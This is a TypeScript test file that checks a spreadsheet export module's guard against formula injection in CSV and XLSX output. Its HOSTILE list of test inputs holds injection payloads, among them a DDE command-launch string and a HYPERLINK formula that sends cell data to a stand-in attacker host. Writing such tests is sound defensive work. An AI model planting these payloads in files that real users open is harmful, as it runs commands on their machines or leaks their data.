import { inflateRawSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { withFormulaGuard, withoutFormulaGuard } from '~/platform/sheets/formula-guard'
import { readSheet } from '~/platform/sheets/read-sheet'
import { type SheetFormat, sheetStream } from '~/platform/sheets/write-sheet'

const HOSTILE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"open")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '|calc',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  "'=1+1",
  "''@x",
  '=1,"2"\n=3',
]
const HARMLESS = ['', '姜', '2026-11-25', '12.5', "O'Brien", "'quoted'", 'a=b', '00012345678901234567']

async function written(format: SheetFormat, cells: string[]): Promise<Uint8Array> {
  async function* rows() {
    for (const cell of cells) yield ['first', cell]
  }
  return new Uint8Array(await new Response(sheetStream(format, ['a', 'b'], rows(), 'x')).arrayBuffer())
}

async function readBack(bytes: Uint8Array): Promise<string[]> {
  const cells: string[] = []
  for await (const row of readSheet({ bytes })) cells.push(row.cells[1] ?? '')
  return cells.slice(1)
}

describe('formula injection', () => {
  it('no cell of a CSV begins with what a spreadsheet runs', async () => {
    const records: string[][] = parse(Buffer.from(await written('csv', HOSTILE)), { bom: true })
    const cells = records.slice(1).map(([, cell]) => cell!)
    expect(cells).toHaveLength(HOSTILE.length)
    for (const cell of cells) expect(cell).toMatch(/^'/)
  })

  it('a cell of an xlsx file is text and never a formula', async () => {
    const workbook = await written('xlsx', HOSTILE)
    const xml = entriesOf(workbook)
    expect(xml).toContain('1+1')
    expect(xml).not.toMatch(/<f[\s>]/)
    expect(xml).not.toMatch(/<hyperlink/i)
  })

  it.each(['csv', 'xlsx'] as const)('what was written to %s is what is read, hostile or not', async (format) => {
    const cells = [...HOSTILE, ...HARMLESS]
    expect(await readBack(await written(format, cells))).toEqual(cells)
  })

  it('the guard comes off exactly where it was put on', () => {
    const text = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '|', '＝', 'a', '1', ' ') })
    fc.assert(
      fc.property(text, (cell) => {
        const guarded = withFormulaGuard(cell)
        expect(guarded).not.toMatch(/^[=+\-@|\t\r\n＝＋－＠]/)
        expect(withoutFormulaGuard(guarded)).toBe(cell)
      }),
    )
  })
})

/** Everything inside a zip file, as text: enough to see whether a word is anywhere. */
function entriesOf(zip: Uint8Array): string {
  const file = Buffer.from(zip)
  let text = ''
  for (let at = file.indexOf('PK\x01\x02'); at !== -1; at = file.indexOf('PK\x01\x02', at + 4)) {
    const [packed, header] = [file.readUInt32LE(at + 20), file.readUInt32LE(at + 42)]
    const from = header + 30 + file.readUInt16LE(header + 26) + file.readUInt16LE(header + 28)
    const content = file.subarray(from, from + packed)
    text += file.readUInt16LE(at + 10) === 0 ? content.toString() : inflateRawSync(content).toString()
  }
  return text
}
